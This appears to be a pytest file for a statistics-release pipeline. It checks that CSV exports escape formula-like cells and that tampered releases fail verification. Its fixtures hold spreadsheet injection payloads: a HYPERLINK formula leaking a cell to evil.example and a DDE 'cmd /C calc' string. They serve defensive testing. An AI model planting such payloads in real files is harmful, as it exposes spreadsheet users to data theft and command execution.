"""Releases against hostile content: formula cells in the CSV, and a forged release with fresh checksums."""

from __future__ import annotations

import csv
import hashlib
import json
from pathlib import Path

import pyarrow as pa
import pyarrow.compute as pc
import pyarrow.parquet as pq
from test_release import DAY, EXTRACTOR, _reseal, _writable, base_rows, write_database

from pipeline.release import publish_release, verify_release

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
EVIL_DOCUMENT = '=HYPERLINK("http://evil.example/?leak="&A1,"open").txt'
EVIL_TEXT = "@SUM(1+1)*cmd|' /C calc'!A0 police recorded 12 offences; -2+3 and\tmore: 7 offences online."


def evil_rows() -> dict:  # type: ignore[type-arg]
    rows = base_rows()
    rows["documents"].append(
        {
            "document": EVIL_DOCUMENT,
            "sha256": hashlib.sha256(EVIL_TEXT.encode()).hexdigest(),
            "bytes": len(EVIL_TEXT.encode()),
            "media_type": "text/plain",
            "encoding": "utf-8",
            "title": "+cmd",
            "text": EVIL_TEXT,
        }
    )
    for fact_id, quote, count in (
        ("f-evil-at", "@SUM(1+1)*cmd|' /C calc'!A0 police recorded 12", 12),
        ("f-evil-minus", "-2+3", 2),
        ("f-evil-tab", "\tmore: 7", 7),
    ):
        start = EVIL_TEXT.index(quote)
        rows["facts"].append(
            {
                "fact_id": fact_id, "document": EVIL_DOCUMENT, "quote": quote, "char_start": start,
                "char_end": start + len(quote), "count": count, "qualifier": "exact", "platform": "online_any",
                "extractor_version": EXTRACTOR, "confidence": 0.5,
            }
        )
    return rows


def test_no_csv_cell_starts_like_a_formula_and_parquet_keeps_the_values(tmp_path: Path) -> None:
    db = write_database(tmp_path / "stats.duckdb", evil_rows())
    release = publish_release(db, tmp_path / "releases", today=DAY).path
    assert verify_release(release) == []

    with open(release / "facts.csv", newline="", encoding="utf-8") as fh:
        cells = list(csv.DictReader(fh))
    assert cells and not [v for row in cells for v in row.values() if v.startswith(FORMULA_START)]
    evil = {row["fact_id"]: row for row in cells if row["fact_id"].startswith("f-evil")}
    assert evil["f-evil-at"]["document"] == "'" + EVIL_DOCUMENT  # the apostrophe makes it text
    assert evil["f-evil-at"]["quote"] == "'@SUM(1+1)*cmd|' /C calc'!A0 police recorded 12"
    assert evil["f-evil-tab"]["quote"] == "'\tmore: 7"
    assert {row["count"] for row in evil.values()} == {"12", "2", "7"}  # numbers untouched

    facts = pq.read_table(release / "facts.parquet")
    quotes = dict(zip(facts["fact_id"].to_pylist(), facts["quote"].to_pylist(), strict=True))
    assert quotes["f-evil-minus"] == "-2+3" and quotes["f-evil-tab"] == "\tmore: 7"


def test_a_release_whose_rows_were_forged_fails_verify_even_with_every_checksum_recomputed(tmp_path: Path) -> None:
    db = write_database(tmp_path / "stats.duckdb")
    release = publish_release(db, tmp_path / "releases", today=DAY).path
    facts = pq.read_table(release / "facts.parquet")
    forged = facts.set_column(
        facts.schema.get_field_index("count"), "count", pc.multiply(facts["count"], pa.scalar(10, pa.int64()))
    )
    pq.write_table(forged.replace_schema_metadata(facts.schema.metadata), _writable(release / "facts.parquet"))
    _reseal(release)

    problems = verify_release(release)
    assert len(problems) == 1 and problems[0].startswith("content: the rows and datapackage.json hash to"), problems
    assert "changed after it was published" in problems[0]

    # Writing the recomputed hash into datapackage.json does not help: the version names the old one.
    package = json.loads((release / "datapackage.json").read_text())
    actual = problems[0].split("hash to ")[1][:12]
    package["content_sha256"] = actual + package["content_sha256"][12:]
    _writable(release / "datapackage.json").write_text(json.dumps(package))
    _reseal(release)
    problems = verify_release(release)
    assert any("does not match the version" in p for p in problems), problems
